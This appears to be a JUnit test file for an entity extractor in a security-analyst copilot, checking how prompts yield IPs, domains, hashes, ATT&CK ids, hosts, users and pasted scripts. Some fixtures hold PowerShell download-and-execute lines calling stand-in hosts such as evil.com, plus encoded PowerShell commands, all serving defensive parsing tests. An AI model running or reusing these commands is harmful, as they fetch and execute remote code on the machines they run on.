package dev.vigil.copilot.understand;

import static dev.vigil.copilot.understand.Fixtures.describe;
import static dev.vigil.copilot.understand.Fixtures.extract;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.copilot.EntityType;
import dev.vigil.copilot.Mention;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What the extractor reads from a prompt, as tables over the tenant of {@link Fixtures}. Each row is a prompt and
 * every mention expected from it, in order, written {@code TYPE value}, then {@code <- text} when the prompt wrote
 * it differently. A row without mentions is a look-alike that must not match.
 */
class ExtractorTest {
    static Stream<Arguments> typedEntities() {
        return Stream.of(
                row("IPv4", "is 1.2.3.4 malicious", "IP 1.2.3.4"),
                row("defanged IPv4", "traffic to 1.2.3[.]4", "IP 1.2.3.4 <- 1.2.3[.]4"),
                row("IPv6", "traffic to 2001:db8::7", "IP 2001:db8::7"),
                row("IPv6, written long", "from 2001:0DB8:0000:0000:0000:0000:0000:0007",
                        "IP 2001:db8::7 <- 2001:0DB8:0000:0000:0000:0000:0000:0007"),
                row("CIDR", "hosts in 10.0.0.0/8", "CIDR 10.0.0.0/8"),
                row("URL", "was https://evil.com/gate.php visited", "URL https://evil.com/gate.php"),
                row("defanged URL", "hxxp://evil[.]com/gate.php",
                        "URL http://evil.com/gate.php <- hxxp://evil[.]com/gate.php"),
                row("defanged scheme colon", "hxxps[:]//cdn.bad.xyz/a",
                        "URL https://cdn.bad.xyz/a <- hxxps[:]//cdn.bad.xyz/a"),
                row("ftp URL", "ftp://files.example.net/drop.bin", "URL ftp://files.example.net/drop.bin"),
                row("domain", "who resolved Evil-Updates.com", "DOMAIN evil-updates.com <- Evil-Updates.com"),
                row("domain defanged with (.)", "evil(.)com", "DOMAIN evil.com <- evil(.)com"),
                row("e-mail address", "phish from bob@evil.com", "EMAIL bob@evil.com"),
                row("MD5", "hash 44d88612fea8a8f36de82e1278abb02f", "HASH 44d88612fea8a8f36de82e1278abb02f"),
                row("SHA1", "3395856ce81f2b7382dee72602f798b642f14140",
                        "HASH 3395856ce81f2b7382dee72602f798b642f14140"),
                row("SHA256, upper case", "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F",
                        "HASH 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
                                + " <- 275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F"),
                row("CVE, any case", "are we exposed to cve-2024-3400", "CVE CVE-2024-3400 <- cve-2024-3400"),
                row("technique and sub-technique ids", "T1003 and T1003.001", "TECHNIQUE T1003",
                        "TECHNIQUE T1003.001"),
                row("technique id in lower case", "what is t1059", "TECHNIQUE T1059 <- t1059"),
                row("tactic id", "techniques of TA0008", "TACTIC TA0008"),
                row("group id", "who is g0016", "ACTOR G0016 <- g0016"),
                row("software ids are left out", "is S0002 used"),
                row("incident", "summarize incident 12", "INCIDENT 12 <- incident 12"),
                row("incident with a hash sign", "summarize incident #12", "INCIDENT 12 <- incident #12"),
                row("bare hash sign", "close #0012", "INCIDENT 12 <- #0012"),
                row("inc and case", "inc 7 and case 8", "INCIDENT 7 <- inc 7", "INCIDENT 8 <- case 8"),
                row("number", "top 5 hosts", "NUMBER 5"),
                row("number word", "top five users", "NUMBER 5 <- five"),
                row("duration in words", "processes running longer than 3 hours", "DURATION 3h <- 3 hours"),
                row("duration in minutes", "sessions over 90 minutes", "DURATION 90m <- 90 minutes"),
                row("shorthand duration after than", "longer than 2d", "DURATION 2d"),
                row("weeks are days", "retention of two weeks", "DURATION 14d <- two weeks"));
    }

    static Stream<Arguments> lookAlikes() {
        return Stream.of(
                row("file names are not domains", "lsass.exe invoice.pdf run.ps1 a.dll setup.py",
                        "PROCESS lsass.exe"),
                row("an unknown .exe is a process by its shape", "who ran evil.exe", "PROCESS evil.exe"),
                row("a version is not an address", "build 10.0.19041"),
                row("a dotted quad after version is not an address", "version 10.0.19041.1"),
                row("prefix 33 is no network", "1.2.3.4/33", "IP 1.2.3.4"),
                row("a GUID is not a hash", "{3F2504E0-4F89-11D3-9A0C-0305E82C3301}"),
                row("a GUID without dashes is not a hash", "{3F2504E04F8911D39A0C0305E82C3301}"),
                row("a longer hex run is not a hash", "0x44d88612fea8a8f36de82e1278abb02f00"),
                row("a clock time is not an address", "at 14:30:45"),
                row("plain words around a slash", "logons and/or logoffs"),
                row("a technique id needs four digits", "T100 and T10035"));
    }

    static Stream<Arguments> overlaps() {
        return Stream.of(
                row("the domain in a URL is part of the URL", "https://evil.com/x", "URL https://evil.com/x"),
                row("the address in a URL is part of the URL", "http://1.2.3.4:8080/x", "URL http://1.2.3.4:8080/x"),
                row("the address in a network is part of the network", "10.1.0.0/16", "CIDR 10.1.0.0/16"),
                row("the domain of an e-mail address is part of it", "bob@evil.com", "EMAIL bob@evil.com"),
                row("a phrase beats a word in it", "credential dumping via lsass memory",
                        "TECHNIQUE T1003 <- credential dumping", "TECHNIQUE T1003.001 <- lsass memory"),
                row("the longest name", "OS Credential Dumping: LSASS Memory",
                        "TECHNIQUE T1003.001 <- OS Credential Dumping: LSASS Memory"),
                row("a stored process beats an ATT&CK name", "procs spawned by powershell",
                        "PROCESS powershell.exe <- powershell"),
                row("a stored host beats the shape of a domain", "logons on WORKSTATION5.corp.com",
                        "HOST WORKSTATION5.corp.com"),
                row("a stored user beats the shape of an e-mail address", "jdoe@corp.com logons",
                        "USER CORP\\jdoe <- jdoe@corp.com"),
                row("time words are not numbers", "top 3 users last 24 hours", "NUMBER 3"),
                row("a command keeps its arguments", "is `powershell -nop -enc SQBFAFgA 1.2.3.4` bad",
                        "SCRIPT powershell -nop -enc SQBFAFgA 1.2.3.4 <- `powershell -nop -enc SQBFAFgA 1.2.3.4`"));
    }

    static Stream<Arguments> linkedValues() {
        return Stream.of(
                row("a bare host name", "procs on WORKSTATION5", "HOST WORKSTATION5"),
                row("a host by its first label", "procs on ws5", "HOST WS5.corp.local <- ws5"),
                row("a host typed with its domain", "procs on WORKSTATION6.corp.local",
                        "HOST WORKSTATION6 <- WORKSTATION6.corp.local"),
                row("a host with hyphens", "alerts on srv-web-01", "HOST SRV-WEB-01 <- srv-web-01"),
                row("a user without its domain", "logons of jdoe", "USER CORP\\jdoe <- jdoe"),
                row("a user with a domain typed", "logons of CORP\\jdoe", "USER CORP\\jdoe"),
                row("a user typed with another domain", "logons of CORP\\alice", "USER alice@corp.com <- CORP\\alice"),
                row("a vocabulary word that is a user", "admin logons", "USER admin"),
                row("a process with .exe", "powershell.exe children", "PROCESS powershell.exe"),
                row("a process without .exe", "children of mimikatz", "PROCESS mimikatz.exe <- mimikatz"),
                row("a process stored with its path", "rundll32 loads", "PROCESS C:\\Windows\\System32\\rundll32.exe"
                        + " <- rundll32"),
                row("a process at the end of a path", "who opened C:\\Windows\\System32\\lsass.exe",
                        "PROCESS lsass.exe"),
                row("a rule title as a phrase", "suspicious lsass access fired on ws5",
                        "RULE Suspicious LSASS Access <- suspicious lsass access", "HOST WS5.corp.local <- ws5"),
                row("a quoted rule title", "when did \"Encoded PowerShell Command\" fire",
                        "RULE Encoded PowerShell Command"),
                row("a product", "hosts running Microsoft Exchange Server",
                        "PRODUCT Microsoft Exchange Server"),
                row("a product without its vendor", "hosts running exchange server",
                        "PRODUCT Microsoft Exchange Server <- exchange server"),
                row("a fuzzy host", "procs on workstaton5", "HOST WORKSTATION5 <- workstaton5"),
                row("ATT&CK names", "lateral movement by APT29 aka Cozy Bear",
                        "TACTIC TA0008 <- lateral movement", "ACTOR G0016 <- APT29", "ACTOR G0016 <- Cozy Bear"),
                row("ATT&CK name with hyphens", "signs of pass-the-hash", "TECHNIQUE T1550.002 <- pass-the-hash"),
                row("ATT&CK names shorter than four letters are words", "at what time"));
    }

    static Stream<Arguments> socShorthand() {
        return Stream.of(
                row("procs touching lsass", "procs on ws5 touching lsass", "HOST WS5.corp.local <- ws5",
                        "PROCESS lsass.exe <- lsass"),
                row("failed logons", "failed logons jdoe 24h", "USER CORP\\jdoe <- jdoe"),
                row("top procs", "top 5 procs on WORKSTATION5 last 7 days", "NUMBER 5", "HOST WORKSTATION5"),
                row("technique on a host", "did T1003 happen on dc01 yesterday", "TECHNIQUE T1003",
                        "HOST DC01.corp.local <- dc01"),
                row("connections to a defanged domain", "conns from 10.1.2.3 to evil[.]com since monday",
                        "IP 10.1.2.3", "DOMAIN evil.com <- evil[.]com"),
                row("an unquoted command line", "did anyone run powershell -enc SQBFAFgA on ws5?",
                        "SCRIPT powershell -enc SQBFAFgA", "HOST WS5.corp.local <- ws5"),
                row("cmd /c", "cmd /c whoami /all", "SCRIPT cmd /c whoami /all"),
                row("persistence via run keys", "persistence via Run keys on ws5", "TACTIC TA0003 <- persistence",
                        "HOST WS5.corp.local <- ws5"),
                row("is it malicious", "is 1.2.3.4 malicious", "IP 1.2.3.4"),
                row("what is a technique", "what is T1003", "TECHNIQUE T1003"));
    }

    private static Arguments row(String description, String prompt, String... mentions) {
        return Arguments.of(description, prompt, List.of(mentions));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource({"typedEntities", "lookAlikes", "overlaps", "linkedValues", "socShorthand"})
    void reads(String description, String prompt, List<String> expected) {
        Extraction extraction = extract(prompt);

        assertThat(extraction.mentions()).extracting(Fixtures::describe).containsExactlyElementsOf(expected);
        assertThat(extraction.mentions()).allSatisfy(mention ->
                assertThat(extraction.normalized().substring(mention.start(), mention.end()))
                        .isEqualTo(mention.text()));
    }

    @Test
    void mentionsAreOrderedAndDoNotOverlap() {
        Extraction extraction = extract(
                "top 3 procs on ws5 and WORKSTATION6 talking to 1.2.3.4 or evil.com, incident 4");

        List<Mention> mentions = extraction.mentions();
        for (int i = 1; i < mentions.size(); i++) {
            assertThat(mentions.get(i).start()).isGreaterThanOrEqualTo(mentions.get(i - 1).end());
        }
        assertThat(mentions).extracting(Fixtures::describe).containsExactly("NUMBER 3", "HOST WS5.corp.local <- ws5",
                "HOST WORKSTATION6", "IP 1.2.3.4", "DOMAIN evil.com", "INCIDENT 4 <- incident 4");
    }

    @Test
    void readsTheTimeRangeAsWritten() {
        Extraction extraction = extract("failed logons jdoe 24h");

        assertThat(extraction.time()).get().satisfies(time -> {
            assertThat(time.text()).isEqualTo("24h");
            assertThat(time.from()).isEqualTo("2026-11-28T15:30:00Z");
            assertThat(time.to()).isEqualTo(Fixtures.NOW);
        });
    }

    @Test
    void confidenceReflectsHowAValueWasLinked() {
        assertThat(extract("WORKSTATION5").mentions()).singleElement().extracting(Mention::confidence).isEqualTo(1.0);
        assertThat(extract("ws5").mentions()).singleElement().extracting(Mention::confidence).isEqualTo(0.95);
        assertThat(extract("WORKSTATION6.corp.local").mentions()).singleElement().extracting(Mention::confidence)
                .isEqualTo(0.9);
        assertThat(extract("workstaton5").mentions()).singleElement().extracting(Mention::confidence)
                .isEqualTo(0.8);
        assertThat(extract("admin").mentions()).singleElement().extracting(Mention::confidence).isEqualTo(0.5);
        assertThat(extract("persistence").mentions()).singleElement().extracting(Mention::confidence)
                .isEqualTo(0.6);
    }

    static Stream<Arguments> corrections() {
        return Stream.of(
                Arguments.of("show powershel procs", List.of("powershel -> powershell"),
                        List.of("PROCESS powershell.exe <- powershel")),
                Arguments.of("summarize incidnet 12", List.of("incidnet -> incident"),
                        List.of("INCIDENT 12 <- incidnet 12")),
                Arguments.of("procs on workstaion5", List.of("workstaion5 -> WORKSTATION5"),
                        List.of("HOST WORKSTATION5 <- workstaion5")),
                Arguments.of("failed logns yesterday", List.of("logns -> logons"), List.of()),
                Arguments.of("Proceses on ws5", List.of("Proceses -> process"), List.of("HOST WS5.corp.local <- ws5")),
                Arguments.of("alrts on ws5", List.of("alrts -> alerts"), List.of("HOST WS5.corp.local <- ws5")),
                Arguments.of("top five users", List.of(), List.of("NUMBER 5 <- five")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corrections")
    void correctsSpelling(String prompt, List<String> corrections, List<String> mentions) {
        Extraction extraction = extract(prompt);

        assertThat(extraction.corrections()).extracting(Correction::toString).containsExactlyElementsOf(corrections);
        assertThat(extraction.mentions()).extracting(Fixtures::describe).containsExactlyElementsOf(mentions);
    }

    static Stream<Arguments> nonCorrections() {
        return Stream.of(
                Arguments.of("a British spelling is a variant", "summarise incident 12"),
                Arguments.of("another variant", "analyse the behaviour of ws5"),
                Arguments.of("vocabulary words", "show failed logons"),
                Arguments.of("stored values and aliases", "jdoe on ws5 and svc_backup"),
                Arguments.of("short words", "cat the dog"),
                Arguments.of("numbers", "top 12345 logons"),
                Arguments.of("typed entities", "T1003 CVE-2021-44228 44d88612fea8a8f36de82e1278abb02f evil.com"),
                Arguments.of("paths and keys", "C:\\Windows\\Tmep\\x.exe under HKLM\\Sofware\\Run"),
                Arguments.of("words inside a command", "`powershel -enc AAAA`"),
                Arguments.of("words with no near neighbour", "quixotic zeppelins"));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("nonCorrections")
    void leavesAlone(String description, String prompt) {
        assertThat(extract(prompt).corrections()).isEmpty();
    }

    @Test
    void prefersAVocabularyWordWithTheSameFirstLetter() {
        Extractor extractor = new Extractor(List.of("bats", "cuts", "hats"), ValueDictionary.empty(),
                KnowledgeNames.none());

        assertThat(extractor.extract("cats", Fixtures.NOW, java.time.ZoneOffset.UTC).corrections())
                .extracting(Correction::to).containsExactly("cuts");
    }

    @Test
    void keepsEquallyCloseValuesAsAmbiguous() {
        Extraction extraction = extract("logons of jsmoth");

        assertThat(extraction.ambiguous()).singleElement().satisfies(group ->
                assertThat(group).extracting(Fixtures::describe)
                        .containsExactlyInAnyOrder("USER jsmith <- jsmoth", "USER jsmyth <- jsmoth"));
        assertThat(extraction.mentions()).extracting(Mention::text).containsExactly("jsmoth");
        assertThat(extraction.corrections()).isEmpty();
    }

    @Test
    void keepsAHostNamedLikeAUserAsAmbiguous() {
        Extractor extractor = new Extractor(Fixtures.LEXICON, ValueDictionary.of(java.util.Map.of(
                EntityType.HOST, List.of("jdoe"), EntityType.USER, List.of("jdoe"))), KnowledgeNames.none());

        Extraction extraction = extractor.extract("activity of jdoe", Fixtures.NOW, java.time.ZoneOffset.UTC);

        assertThat(extraction.ambiguous()).singleElement().satisfies(group ->
                assertThat(group).extracting(Fixtures::describe).containsExactlyInAnyOrder("HOST jdoe", "USER jdoe"));
    }

    @Test
    void anUnknownHostNumberIsAmbiguousBetweenItsNeighbours() {
        Extraction extraction = extract("procs on workstation7");

        assertThat(extraction.ambiguous()).singleElement().satisfies(group ->
                assertThat(group).extracting(Mention::value).containsExactlyInAnyOrder("WORKSTATION5", "WORKSTATION6"));
        assertThat(extraction.corrections()).isEmpty();
    }

    @Test
    void readsAFencedScript() {
        Extraction extraction = extract("is this bad?\n```powershell\n$c = New-Object Net.WebClient\n"
                + "IEX $c.DownloadString('http://1.2.3.4/a')\n```");

        assertThat(extraction.mentions()).singleElement().satisfies(mention -> {
            assertThat(mention.type()).isEqualTo(EntityType.SCRIPT);
            assertThat(mention.value()).isEqualTo(
                    "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://1.2.3.4/a')");
        });
    }

    @Test
    void readsALongPowerShellLine() {
        String line = "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('UA','x');"
                + "IEX $wc.DownloadString('http://evil.com/p')";

        assertThat(extract(line).mentions()).extracting(Mention::type).containsExactly(EntityType.SCRIPT);
    }

    @Test
    void readsAPastedArticleAsTextWithoutItsInnerEntities() {
        String article = "Last week, APT29 targeted Microsoft Exchange Server installations through CVE-2024-21410. "
                + "The actor sent phishing mail from bob@evil.com and staged payloads on "
                + "hxxp://cdn[.]evil-updates[.]com/p. "
                + "Victims saw credential dumping via lsass memory on domain controllers. "
                + "The campaign used 198.51.100.7 for command and control, and moved laterally with pass the hash. "
                + "Defenders should hunt for encoded PowerShell launched by Office applications.";
        Extraction extraction = extract("What is our exposure to this?\n" + article);

        assertThat(extraction.mentions()).singleElement().satisfies(mention -> {
            assertThat(mention.type()).isEqualTo(EntityType.TEXT);
            assertThat(mention.value()).isEqualTo(article);
        });
        assertThat(extraction.time()).isEmpty();
    }

    @Test
    void keepsTheOriginalAndTheNormalizedPrompt() {
        Extraction extraction = extract("procs  on \u201Cws5\u201D");

        assertThat(extraction.original()).isEqualTo("procs  on \u201Cws5\u201D");
        assertThat(extraction.normalized()).isEqualTo("procs on \"ws5\"");
        assertThat(extraction.tokens()).extracting(Token::text).containsExactly("procs", "on", "\"ws5\"");
        assertThat(extraction.mentions()).extracting(Fixtures::describe).containsExactly("HOST WS5.corp.local <- ws5");
    }
}
